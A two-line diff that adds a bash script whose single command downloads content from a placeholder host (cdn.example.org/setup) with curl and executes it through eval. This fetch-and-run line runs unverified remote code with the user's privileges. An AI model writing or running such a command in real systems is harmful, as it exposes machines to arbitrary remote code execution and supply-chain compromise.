@@ -1,0 +1,2 @@
+#!/bin/bash
+eval "$(curl -fsSL https://cdn.example.org/setup)"
